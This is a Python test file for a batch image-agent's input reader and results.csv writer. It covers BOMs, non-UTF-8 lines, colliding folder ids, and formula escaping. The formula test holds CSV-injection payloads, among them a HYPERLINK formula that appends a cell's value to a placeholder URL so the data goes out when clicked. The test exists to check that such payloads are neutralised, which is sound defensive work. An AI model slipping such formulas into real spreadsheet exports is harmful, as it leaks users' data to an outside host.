"""Round 3 for batch input and output: a BOM, a line that is not UTF-8, two ids that map to one folder, and
prompts a spreadsheet would run as formulas. Real files in, real ``results.csv`` out."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from emage_agent.adapters.batch.items import read_items
from emage_agent.adapters.batch.results import CSV_NAME, ResultRow, write_results


def test_a_bom_is_not_part_of_the_first_item(tmp_path: Path) -> None:
    """Item 14: a UTF-8 BOM (Notepad, Excel) no longer loses the first JSONL item nor stays in a text prompt."""
    jsonl = tmp_path / "p.jsonl"
    jsonl.write_bytes(b"\xef\xbb\xbf" + json.dumps({"id": "a", "prompt": "a red fox"}).encode() + b"\n")
    items, bad = read_items(jsonl)
    assert [i.id for i in items] == ["a"] and bad == []
    text = tmp_path / "p.txt"
    text.write_bytes("\ufeffa red fox\na blue car\n".encode())
    items, bad = read_items(text)
    assert [i.prompt for i in items] == ["a red fox", "a blue car"] and bad == []


def test_one_line_that_is_not_utf8_is_skipped_alone(tmp_path: Path) -> None:
    """Item 14: a Latin-1 line is reported by number; the other lines still run."""
    path = tmp_path / "p.txt"
    path.write_bytes(b"a red fox\n" + "un caf\xe9 rouge\n".encode("latin-1") + b"a blue car\n")
    items, bad = read_items(path)
    assert [i.prompt for i in items] == ["a red fox", "a blue car"]
    assert [(b.line, "UTF-8" in b.message) for b in bad] == [(2, True)]


def test_two_ids_for_one_folder_are_refused(tmp_path: Path) -> None:
    """Item 14: ``"x/"`` and the id its folder is named after would share a session folder; the second is refused."""
    from emage_agent.adapters.batch.items import Item

    folder = Item(id="x/", prompt="p", line=1).folder
    path = tmp_path / "p.jsonl"
    lines = [{"id": "x/", "prompt": "a red fox"}, {"id": folder, "prompt": "a blue car"}, {"id": "y", "prompt": "z"}]
    path.write_text("\n".join(json.dumps(line) for line in lines) + "\n")
    items, bad = read_items(path)
    assert [i.id for i in items] == ["x/", "y"]
    assert len(bad) == 1 and bad[0].line == 2 and "same folder" in bad[0].message
    assert len({i.folder for i in items}) == len(items)


def test_formulas_are_written_as_text(tmp_path: Path) -> None:
    """Item 14: a prompt or id a spreadsheet would evaluate (=, +, -, @) is written as text."""
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]
    rows = [ResultRow(id=f"i{n}", prompt=p, status="failed", error=p) for n, p in enumerate(hostile)]
    rows.append(ResultRow(id="@id", prompt="a red fox", status="done", score=0.9))
    write_results(tmp_path, rows)
    with (tmp_path / CSV_NAME).open(newline="") as f:
        read = list(csv.DictReader(f))
    for row in read:
        for key in ("id", "prompt", "error"):
            assert not row[key].startswith(("=", "+", "-", "@", "\t")), row
    assert read[0]["prompt"] == "'" + hostile[0] and read[-1]["prompt"] == "a red fox" and read[-1]["score"] == "0.9"
